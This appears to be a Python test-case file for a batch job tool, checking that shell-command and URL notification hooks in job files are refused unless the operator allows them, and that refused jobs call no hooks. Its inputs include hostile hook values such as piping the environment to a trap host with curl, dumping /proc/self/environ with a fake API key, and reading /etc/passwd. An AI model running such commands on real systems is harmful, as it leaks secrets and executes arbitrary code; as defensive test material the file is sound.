"""Notification hooks in a job file (issue 11, item 6): a shell command there is arbitrary code
execution, and a URL there is where the job's report would go. Refused unless the operator
allows them (--allow-hooks, --allow-host); and a job refused before it ever ran notifies
nobody, not even through a hook the operator set."""
from __future__ import annotations

from . import BASE, Case

SHELL = (r"job\.sql:\d+:\d+: on_(complete|failure) is a shell command in a job file: it would "
         r"run arbitrary code(.|\n)*--allow-hooks")
HOST = (r"job\.sql:\d+:\d+: on_(complete|failure) posts the job's report to 127\.0\.0\.2:\d+, "
        r"a host the operator has not allowed(.|\n)*--allow-host")
# the operator's own hook: it would reach the trap if it ran
CALL_TRAP = "python3 -c \"import urllib.request as u; u.urlopen('{trap}/fired')\""

CASES = [
    Case("notify-shell-command-on-complete", BASE + ", on_complete='touch {dir}/pwned'",
         message=SHELL, commands=("plan", "run", "submit", "collect")),
    Case("notify-shell-command-on-failure",
         BASE + ", on_failure='env | curl -d @- {trap}'", message=SHELL),
    Case("notify-shell-command-reading-keys",
         BASE + ", on_complete='cat /proc/self/environ > {dir}/env.txt'", message=SHELL,
         env={"OPENAI_API_KEY": "sk-test-hostile-0123456789abcdefghijklmnopqrstuvwxyz"}),
    Case("notify-shell-command-other-hosts-allowed",
         BASE + ", on_complete='sh -c \"id\"'", args=("--allow-host", "127.0.0.2"),
         message=SHELL),
    Case("notify-url-to-a-host-not-allowed", BASE + ", on_complete='{trap}/hook'",
         message=HOST),
    Case("notify-url-on-failure-not-allowed", BASE + ", on_failure='{trap}/hook'",
         message=HOST),
    Case("notify-url-allowed-other-port", BASE + ", on_complete='{trap}/hook'",
         args=("--allow-host", "127.0.0.2:1"), message=HOST),
    Case("notify-url-not-http", BASE + ", on_complete='file:///etc/passwd'",
         message=r"on_complete 'file:///etc/passwd': a hook URL must be http:// or https://"),
    Case("notify-url-bad-port", BASE + ", on_complete='http://127.0.0.2:99999/x'",
         message=r"on_complete 'http://127\.0\.0\.2:99999/x' is not a valid URL"),
    Case("notify-hook-not-a-string", BASE + ", on_complete=['sh', '-c', 'id']",
         message=r"on_complete must be a shell command or an http\(s\) URL \(a string\)"),
    Case("notify-hook-empty", BASE + ", on_failure='  '",
         message=r"on_failure must be a shell command or an http\(s\) URL"),
    Case("notify-hook-unknown-key", BASE + ", on_success='{trap}/hook'",
         message=r"on_success"),
    # a job refused on its first run leaves no trace: its own allowed hook is not called
    Case("notify-refused-job-with-allowed-url", BASE + ", on_failure='{trap}/hook'",
         sql="DELETE FROM reviews", args=("--allow-host", "127.0.0.2"),
         message=r"not a SELECT"),
    Case("notify-refused-data-with-allowed-url", BASE + ", on_failure='{trap}/hook'",
         sql="SELECT 1 AS id, 'a' AS text UNION ALL SELECT 1, 'b'",
         args=("--allow-host", "127.0.0.2"), message=r"duplicate"),
    # ... nor the operator's
    Case("notify-refused-job-operator-hook", BASE, sql="DELETE FROM reviews",
         env={"WAREHOUSE_BATCH_ON_FAILURE": CALL_TRAP}, message=r"not a SELECT"),
    Case("notify-refused-data-operator-hook", BASE,
         sql="SELECT 1 AS id, 'a' AS text UNION ALL SELECT 1, 'b'",
         env={"WAREHOUSE_BATCH_ON_FAILURE": CALL_TRAP,
              "WAREHOUSE_BATCH_ON_COMPLETE": CALL_TRAP}, message=r"duplicate"),
]
